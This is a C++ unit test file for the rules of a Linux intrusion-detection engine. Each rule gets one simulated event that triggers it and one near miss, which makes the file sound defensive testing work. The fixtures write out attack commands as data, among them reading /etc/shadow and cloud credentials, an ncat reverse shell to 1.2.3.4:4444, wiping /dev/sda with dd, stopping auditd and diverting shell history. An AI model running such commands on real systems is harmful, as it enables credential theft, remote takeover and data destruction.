// Our own rule file: for every rule one event that fires it, and one that nearly does.
#include <gtest/gtest.h>

#include <functional>
#include <map>

#include "common/base/file.h"
#include "common/wire/filter.h"
#include "tests/unit/rules/scene.h"

namespace shrike::scoring {
namespace {

using K = EventKind;
using Make = std::function<void(Scene&)>;

std::string rule_file() {
  return read_file(std::string(SHRIKE_SOURCE_DIR) + "/packaging/config/rules/shrike.yaml").value();
}

const RuleSet& rules(std::vector<RuleStatus>* statuses = nullptr) {
  static std::vector<RuleStatus> all;
  static const RuleSet set = RuleSet::compile({{"shrike.yaml", rule_file()}}, &all).value();
  if (statuses != nullptr) *statuses = all;
  return set;
}

struct Case {
  K kind;
  Make fires;
  Make nearly;
};

const std::map<std::string, Case>& cases() {
  static const std::map<std::string, Case> all{
      {"Password hashes read by an unexpected program",
       {K::open, [](Scene& s) { s.program("/usr/bin/cat", {"/etc/shadow"}).uid(0).reads("/etc/shadow"); },
        [](Scene& s) { s.program("/usr/sbin/unix_chkpwd").uid(0).reads("/etc/shadow"); }}},
      {"Password hashes read by a Perl script of the system",
       {K::open,
        [](Scene& s) {
          s.program("/usr/bin/perl", {"-wT", "/usr/sbin/munin-node"}).uid(0).reads("/etc/shadow");
        },
        [](Scene& s) {
          s.program("/usr/bin/perl", {"-e", "getpwnam(0)", "/usr/sbin/x"}).uid(0).reads("/etc/shadow");
        }}},
      {"Reading of password hashes was denied",
       {K::open, [](Scene& s) { s.program("/usr/bin/cat").reads("/etc/shadow").fails(13); },
        [](Scene& s) { s.program("/usr/bin/cat").reads("/etc/shadow").fails(2); }}},
      {"Other name made for a file with credentials",
       {K::symlink, [](Scene& s) { s.path("/etc/shadow").path2("/tmp/x"); },
        [](Scene& s) { s.path("/etc/hosts").path2("/tmp/x"); }}},
      {"SSH private key read by an unexpected program",
       {K::open, [](Scene& s) { s.program("/usr/bin/cp").reads("/home/alice/.ssh/id_ed25519"); },
        [](Scene& s) { s.program("/usr/bin/ssh").reads("/home/alice/.ssh/id_ed25519"); }}},
      {"Cloud or service credentials read by a general tool",
       {K::open, [](Scene& s) { s.program("/usr/bin/cat").reads("/root/.aws/credentials"); },
        [](Scene& s) { s.program("/usr/bin/aws").reads("/root/.aws/credentials"); }}},
      {"Browser passwords or cookies read by another program",
       {K::open, [](Scene& s) { s.reads("/home/alice/.mozilla/firefox/x.default/logins.json"); },
        [](Scene& s) {
          s.program("/usr/lib/firefox-esr/firefox-esr").reads("/home/alice/.mozilla/firefox/x/logins.json");
        }}},
      {"Memory of another process read through a file",
       {K::open, [](Scene& s) { s.reads("/proc/4711/mem"); },
        [](Scene& s) { s.program("/usr/bin/gdb").reads("/proc/4711/mem"); }}},
      {"Physical memory opened",
       {K::open, [](Scene& s) { s.reads("/proc/kcore"); }, [](Scene& s) { s.reads("/proc/kallsyms"); }}},
      {"Scheduled task changed",
       {K::open, [](Scene& s) { s.program("/usr/bin/bash").writes("/etc/cron.d/job"); },
        [](Scene& s) { s.program("/usr/bin/dpkg").writes("/etc/cron.d/job.dpkg-new"); }}},
      {"Service unit changed",
       {K::rename, [](Scene& s) { s.program("/usr/bin/mv").path("/tmp/a").path2("/etc/systemd/system/a.service"); },
        [](Scene& s) {
          s.program("/usr/bin/deb-systemd-helper")
              .child_of("/usr/bin/dpkg")
              .path("/tmp/a")
              .path2("/etc/systemd/system/a.service");
        }}},
      {"Library preloaded into every program",
       {K::open, [](Scene& s) { s.writes("/etc/ld.so.preload"); }, [](Scene& s) { s.reads("/etc/ld.so.preload"); }}},
      {"Shell start-up file changed",
       {K::open, [](Scene& s) { s.writes("/home/alice/.bashrc"); },
        [](Scene& s) { s.program("/usr/sbin/useradd").writes("/home/bob/.bashrc"); }}},
      {"Keys that may log in changed",
       {K::open, [](Scene& s) { s.program("/usr/bin/bash").writes("/root/.ssh/authorized_keys"); },
        [](Scene& s) { s.program("/usr/sbin/sshd").reads("/root/.ssh/authorized_keys"); }}},
      {"Boot or login script changed",
       {K::open, [](Scene& s) { s.program("/usr/bin/tee").writes("/etc/rc.local"); },
        [](Scene& s) { s.program("/usr/bin/tee").writes("/etc/rc.conf"); }}},
      {"Accounts changed by an unexpected program",
       {K::rename, [](Scene& s) { s.program("/usr/bin/sed").path("/etc/sedXyz").path2("/etc/passwd"); },
        [](Scene& s) { s.program("/usr/sbin/useradd").path("/etc/passwd+").path2("/etc/passwd"); }}},
      {"Set-user-ID bit set",
       {K::chmod, [](Scene& s) { s.path("/tmp/sh").arg(0, 04755); }, [](Scene& s) { s.path("/tmp/sh").arg(0, 0755); }}},
      {"File given capabilities",
       {K::setxattr, [](Scene& s) { s.path("/tmp/sh").path2("security.capability"); },
        [](Scene& s) { s.path("/tmp/sh").path2("user.comment"); }}},
      {"Unknown set-user-ID program gave root",
       {K::exec, [](Scene& s) { s.program("/home/alice/rootsh").euid(0); },
        [](Scene& s) { s.program("/usr/bin/sudo").euid(0); }}},
      {"Process became root by itself",
       {K::setid, [](Scene& s) { s.program("/tmp/exploit").uid(0).parent_uid(1000); },
        [](Scene& s) { s.program("/usr/bin/sudo").uid(0).parent_uid(1000); }}},
      {"User namespace made by an ordinary user",
       {K::unshare, [](Scene& s) { s.arg(0, 0x10000000); }, [](Scene& s) { s.uid(0).arg(0, 0x10000000); }}},
      {"Sudo policy changed",
       {K::open, [](Scene& s) { s.program("/usr/bin/tee").writes("/etc/sudoers.d/me"); },
        [](Scene& s) { s.program("/usr/sbin/visudo").writes("/etc/sudoers"); }}},
      {"System log deleted or emptied",
       {K::unlink, [](Scene& s) { s.program("/usr/bin/rm").path("/var/log/auth.log"); },
        [](Scene& s) { s.program("/usr/sbin/logrotate").path("/var/log/auth.log"); }}},
      {"Shell history removed or diverted",
       {K::symlink, [](Scene& s) { s.program("/usr/bin/ln").path("/dev/null").path2("/root/.bash_history"); },
        [](Scene& s) { s.program("/usr/bin/ln").path("/dev/null").path2("/root/bash_history"); }}},
      {"Program deleted its own file",
       {K::unlink, [](Scene& s) { s.program("/tmp/x").path("/tmp/x"); },
        [](Scene& s) { s.program("/tmp/x").path("/tmp/y"); }}},
      {"File times set by hand in a system folder",
       {K::exec,
        [](Scene& s) {
          s.program("/usr/bin/touch", {"-r", "/usr/bin/ls", "/usr/bin/sshd2"});
        },
        [](Scene& s) { s.program("/usr/bin/touch", {"/etc/motd"}); }}},
      {"Argument changed during a system call",
       {K::toctou, [](Scene& s) { s.path("/tmp/a").event.path_at_exit = "/tmp/b"; }, nullptr}},
      {"Protection switched off",
       {K::exec,
        [](Scene& s) {
          s.program("/usr/bin/systemctl", {"stop", "auditd"}).uid(0);
        },
        [](Scene& s) {
          s.program("/usr/bin/systemctl", {"status", "auditd"}).uid(0);
        }}},
      {"Program pretends to be a kernel thread",
       {K::exec, [](Scene& s) { s.program("/tmp/x").argv0("[kworker/0:1]"); },
        [](Scene& s) { s.program("/usr/bin/[").argv0("["); }}},
      {"Program run from memory",
       {K::exec, [](Scene& s) { s.program("/memfd:x").flag(flag_memfd); },
        [](Scene& s) {
          s.program("/memfd:runc_cloned").flag(flag_memfd).child_of("/usr/bin/containerd-shim-runc-v2");
        }}},
      {"Program run after its file was deleted",
       {K::exec, [](Scene& s) { s.program("/tmp/x").flag(flag_deleted); }, [](Scene& s) { s.program("/tmp/x"); }}},
      {"Program run from shared memory",
       {K::exec,
        [](Scene& s) { s.program("/usr/bin/bash", {"/dev/shm/x.sh"}).path("/dev/shm/x.sh").flag(flag_interp); },
        [](Scene& s) { s.program("/usr/bin/bash", {"/dev/shm/x.sh"}).path("/usr/bin/bash"); }}},
      {"File system mounted inside a container",
       {K::mount, [](Scene& s) { s.in_container().path("/dev/sda1").path2("/mnt"); },
        [](Scene& s) { s.path("/dev/sda1").path2("/mnt"); }}},
      {"Kernel told to run a program",
       {K::open, [](Scene& s) { s.in_container().writes("/sys/fs/cgroup/rdma/release_agent"); },
        [](Scene& s) { s.program("/usr/lib/systemd/systemd-sysctl").writes("/proc/sys/kernel/core_pattern"); }}},
      {"Namespace entered from a container",
       {K::setns, [](Scene& s) { s.in_container().arg(1, 0x20000); }, [](Scene& s) { s.arg(1, 0x20000); }}},
      {"Container runtime's socket used from a container",
       {K::connect, [](Scene& s) { s.in_container().unix_socket("/var/run/docker.sock"); },
        [](Scene& s) { s.unix_socket("/var/run/docker.sock"); }}},
      {"Program that is not part of its image run in a container",
       {K::exec, [](Scene& s) { s.in_container().flag(flag_upper); }, [](Scene& s) { s.in_container(); }}},
      {"Network connection became a shell's input or output",
       {K::dup,
        [](Scene& s) {
          s.program("/usr/bin/python3.11").tcp({10, 0, 0, 1}, 4000, {1, 2, 3, 4}, 4444).arg(0, 3);
        },
        [](Scene& s) { s.program("/usr/bin/python3.11").unix_socket("/run/x"); }}},
      {"Shell started on a network connection",
       {K::exec, [](Scene& s) { s.program("/usr/bin/dash", {"-i"}).self().has_stdio_socket = true; },
        [](Scene& s) { s.program("/usr/bin/dash", {"-i"}); }}},
      {"Network tool told to run a program",
       {K::exec,
        [](Scene& s) {
          s.program("/usr/bin/ncat", {"1.2.3.4", "4444", "-e", "/bin/sh"});
        },
        [](Scene& s) {
          s.program("/usr/bin/ncat", {"-l", "4444"});
        }}},
      {"Process attached to another with ptrace",
       {K::ptrace, [](Scene& s) { s.arg(0, 16).arg(1, 77); },
        [](Scene& s) { s.program("/usr/bin/strace").arg(0, 0x4206); }}},
      {"Memory of another process written",
       {K::vm_access, [](Scene& s) { s.call(311).arg(1, 1); }, [](Scene& s) { s.call(310); }}},
      {"Memory of another process written through a file",
       {K::open, [](Scene& s) { s.writes("/proc/4711/mem"); }, [](Scene& s) { s.reads("/proc/4711/mem"); }}},
      {"Writable and executable memory where none is needed",
       {K::map_wx, [](Scene& s) { s.program("/tmp/x").arg(2, 7); },
        [](Scene& s) { s.program("/usr/bin/node").arg(2, 7); }}},
      {"Kernel module loaded in an unusual way",
       {K::module_load, [](Scene& s) { s.program("/usr/bin/kmod").real("/tmp/rootkit.ko"); },
        [](Scene& s) { s.program("/usr/bin/kmod").real("/usr/lib/modules/6.1/kernel/fs/ext4.ko"); }}},
      {"eBPF program loaded by an unexpected program",
       {K::bpf, [](Scene& s) { s.arg(0, 5); }, [](Scene& s) { s.program("/usr/bin/bpftrace").arg(0, 5); }}},
      {"Another kernel loaded", {K::kexec, [](Scene&) {}, [](Scene& s) { s.program("/usr/sbin/kexec"); }}},
      {"io_uring set up by an unexpected program",
       {K::uring_setup, [](Scene& s) { s.call(425); }, [](Scene& s) { s.program("/usr/bin/fio").call(425); }}},
      {"Page faults handled in user space by an ordinary user",
       {K::userfaultfd, [](Scene&) {}, [](Scene& s) { s.uid(0); }}},
      {"Performance events opened by an ordinary user",
       {K::perf_event, [](Scene&) {}, [](Scene& s) { s.program("/usr/bin/perf_6.1"); }}},
      {"Disk or data wiped",
       {K::exec,
        [](Scene& s) {
          s.program("/usr/bin/dd", {"if=/dev/zero", "of=/dev/sda"});
        },
        [](Scene& s) {
          s.program("/usr/bin/dd", {"if=/dev/zero", "of=/tmp/file"});
        }}},
  };
  return all;
}

bool has(const std::vector<std::string>& names, const std::string& name) {
  return std::find(names.begin(), names.end(), name) != names.end();
}

TEST(ShrikeRules, EachFiresOnItsEventAndNotOnItsNearMiss) {
  for (const auto& [name, c] : cases()) {
    Scene yes(c.kind);
    c.fires(yes);
    EXPECT_TRUE(has(fired(rules(), yes.event), name)) << name;
    if (c.nearly == nullptr) continue;
    Scene no(c.kind);
    c.nearly(no);
    EXPECT_FALSE(has(fired(rules(), no.event), name)) << name;
  }
}

TEST(ShrikeRules, EachHasACaseHereAndNoRemark) {
  std::vector<RuleStatus> statuses;
  rules(&statuses);
  size_t loaded = 0;
  for (const RuleStatus& status : statuses) {
    if (status.state == RuleStatus::State::disabled) continue;
    ++loaded;
    EXPECT_EQ(status.state, RuleStatus::State::loaded) << status.rule;
    EXPECT_EQ(status.reason, "") << status.rule;
    EXPECT_TRUE(cases().contains(status.rule)) << status.rule;
  }
  EXPECT_EQ(loaded, cases().size());
  EXPECT_GE(loaded, 25u);
}

TEST(ShrikeRules, EachAlertHasTechniquesAConfidenceAndAMessageWithoutGaps) {
  for (const auto& [name, c] : cases()) {
    Scene scene(c.kind);
    c.fires(scene);
    std::vector<Alert> alerts;
    rules().evaluate(scene.event, alerts);
    for (const Alert& alert : alerts) {
      EXPECT_FALSE(alert.attack.empty()) << alert.rule;
      EXPECT_GT(alert.confidence, 0) << alert.rule;
      EXPECT_GT(alert.risk, 0) << alert.rule;
      EXPECT_FALSE(alert.message.empty()) << alert.rule;
    }
  }
}

// A gap in the message would leave out what the operator needs most. Every rule's own event has all its output names.
TEST(ShrikeRules, EachOutputTellsAllThatItNames) {
  for (const auto& [name, c] : cases()) {
    Scene scene(c.kind);
    c.fires(scene);
    std::vector<Alert> alerts;
    rules().evaluate(scene.event, alerts);
    for (const Alert& alert : alerts) {
      if (alert.rule != name) continue;
      EXPECT_EQ(alert.message.find("<NA>"), std::string::npos) << name << ": " << alert.message;
    }
  }
  Scene from_memory(K::module_load);
  std::vector<Alert> alerts;
  rules().evaluate(from_memory.event, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_NE(alerts[0].message.find("given from memory"), std::string::npos) << alerts[0].message;
}

TEST(ShrikeRules, ShadowReadFromAShellAlertsHigh) {
  for (const char* program :
       {"/usr/bin/cat", "/usr/bin/less", "/usr/bin/python3.11", "/usr/bin/dash", "/home/alice/own"}) {
    Scene s(K::open);
    s.program(program).uid(0).reads("/etc/shadow");
    std::vector<Alert> alerts;
    rules().evaluate(s.event, alerts);
    ASSERT_EQ(alerts.size(), 1u) << program;
    EXPECT_EQ(alerts[0].severity, Severity::high);
    EXPECT_EQ(alerts[0].attack, (std::vector<std::string>{"T1003.008"}));
  }
}

TEST(ShrikeRules, ShadowReadByPerlCodeThatIsNotTheSystemsAlertsHigh) {
  const std::vector<std::vector<std::string>> all{{"-e", "1"},
                                                  {"/tmp/x.pl"},
                                                  {},
                                                  {"-Mevil", "/usr/sbin/x"},
                                                  {"-w", "/home/a/x"},
                                                  {"/usr/sbin/../../tmp/x"},
                                                  {"-we", "/usr/sbin/x"}};
  for (const auto& arguments : all) {
    Scene s(K::open);
    s.program("/usr/bin/perl", arguments).uid(0).reads("/etc/shadow");
    EXPECT_EQ(fired(rules(), s.event), std::vector<std::string>{"Password hashes read by an unexpected program"});
  }
}

TEST(ShrikeRules, TheNameAProcessGivesItselfDoesNotHelpIt) {
  Scene s(K::open);
  s.program("/tmp/evil").uid(0).reads("/etc/shadow").argv0("/usr/sbin/sshd");
  s.self().name = "sshd";
  EXPECT_TRUE(has(fired(rules(), s.event), "Password hashes read by an unexpected program"));
}

TEST(ShrikeRules, APackageManagersNameInTheArgumentsDoesNotHelp) {
  Scene s(K::open);
  s.program("/tmp/evil", {"/usr/bin/dnf"}).uid(0).writes("/etc/cron.d/job");
  EXPECT_TRUE(has(fired(rules(), s.event), "Scheduled task changed"));
  Scene user(K::open);
  user.program("/usr/bin/tee").child_of("/usr/bin/mmdebstrap", {"/usr/bin/mmdebstrap", "x"}).writes("/etc/cron.d/job");
  EXPECT_TRUE(has(fired(rules(), user.event), "Scheduled task changed"));
}

TEST(ShrikeRules, AskForNoOpenWithoutAPathAndForFewKinds) {
  const FilterSpec& filter = rules().filter();
  EXPECT_EQ(
      filter.any_path & (access_open_read | access_open_write | access_open_failed | access_unlink | access_rename),
      0u);
  for (const K kind :
       {K::socket, K::bind, K::sendto, K::tcp_state, K::signal, K::prctl, K::uring_op, K::exit, K::memfd, K::mkdir})
    EXPECT_FALSE(filter.kinds.test(static_cast<size_t>(kind))) << kind_name(kind);
  // "/etc/" or "/" would let half of everything out.
  for (const auto& [prefix, access] : filter.prefixes) EXPECT_GE(prefix.size(), 4u) << prefix;
  EXPECT_FALSE(filter.prefixes.contains("/etc/"));
  for (const char* common : {"etc", "usr", "lib", "home", "proc", "var"})
    EXPECT_FALSE(filter.names.contains(common)) << common;
}

// What a package installation, a log-in, cron and a compiler do; nothing of it may be more than a notice.
TEST(ShrikeRules, OrdinaryWorkRaisesNothingHigh) {
  const auto quiet = [](K kind, const Make& make) {
    Scene s(kind);
    make(s);
    std::vector<Alert> alerts;
    rules().evaluate(s.event, alerts);
    for (const Alert& alert : alerts) EXPECT_LT(alert.severity, Severity::high) << alert.rule << ": " << alert.message;
  };
  quiet(K::open,
        [](Scene& s) { s.program("/usr/sbin/useradd").uid(0).child_of("/usr/bin/perl").reads("/etc/shadow"); });
  quiet(K::open, [](Scene& s) { s.program("/usr/bin/perl", {"/usr/sbin/adduser", "x"}).uid(0).reads("/etc/shadow"); });
  quiet(K::open, [](Scene& s) {
    s.program("/usr/bin/perl", {"-w", "/usr/sbin/dpkg-reconfigure", "tzdata"}).uid(0).reads("/etc/shadow");
  });
  quiet(K::open, [](Scene& s) { s.program("/usr/bin/perl").uid(0).child_of("/usr/bin/dpkg").reads("/etc/shadow"); });
  quiet(K::open,
        [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).writes("/usr/lib/systemd/system/x.service.dpkg-new"); });
  quiet(K::rename,
        [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).path("/etc/sudoers.dpkg-new").path2("/etc/sudoers"); });
  quiet(K::chmod, [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).path("/usr/bin/sudo.dpkg-new").arg(0, 04755); });
  quiet(K::chmod, [](Scene& s) {
    s.program("/tmp/root/usr/bin/dpkg")
        .uid(0)
        .child_of("/usr/bin/mmdebstrap", {"/usr/bin/mmdebstrap", "bookworm"})
        .path("/tmp/root/bin/su")
        .arg(0, 04755);
  });
  quiet(K::rename, [](Scene& s) { s.program("/usr/sbin/useradd").uid(0).path("/etc/shadow+").path2("/etc/shadow"); });
  quiet(K::open, [](Scene& s) { s.program("/usr/sbin/sshd").uid(0).reads("/etc/shadow"); });
  quiet(K::open, [](Scene& s) { s.program("/usr/sbin/sshd").uid(0).reads("/etc/ssh/ssh_host_rsa_key"); });
  quiet(K::setid, [](Scene& s) { s.program("/usr/sbin/sshd").uid(0); });
  quiet(K::exec, [](Scene& s) { s.program("/usr/bin/bash", {"-c", "ls"}).child_of("/usr/sbin/sshd"); });
  quiet(K::exec, [](Scene& s) { s.program("/usr/bin/sudo", {"ls"}).euid(0); });
  quiet(K::open, [](Scene& s) { s.program("/usr/sbin/cron").uid(0).reads("/etc/shadow"); });
  quiet(K::exec, [](Scene& s) {
    s.program("/usr/bin/dash", {"-c", "run-parts /etc/cron.hourly"}).uid(0).child_of("/usr/sbin/cron");
  });
  quiet(K::unlink, [](Scene& s) { s.program("/usr/bin/x86_64-linux-gnu-gcc-12").path("/tmp/ccAbc.s"); });
  quiet(K::exec, [](Scene& s) { s.program("/tmp/conftest"); });
  quiet(K::unlink, [](Scene& s) { s.program("/usr/sbin/logrotate").uid(0).path("/var/log/syslog.7.gz"); });
  quiet(K::open, [](Scene& s) { s.program("/usr/bin/touch").reads("/etc/hosts"); });
  quiet(K::bpf, [](Scene& s) { s.program("/usr/lib/systemd/systemd").uid(0).arg(0, 5); });
  quiet(K::module_load, [](Scene& s) { s.program("/usr/bin/kmod").uid(0).real("/usr/lib/modules/6.1.0/kernel/x.ko"); });
}

}  // namespace
}  // namespace shrike::scoring
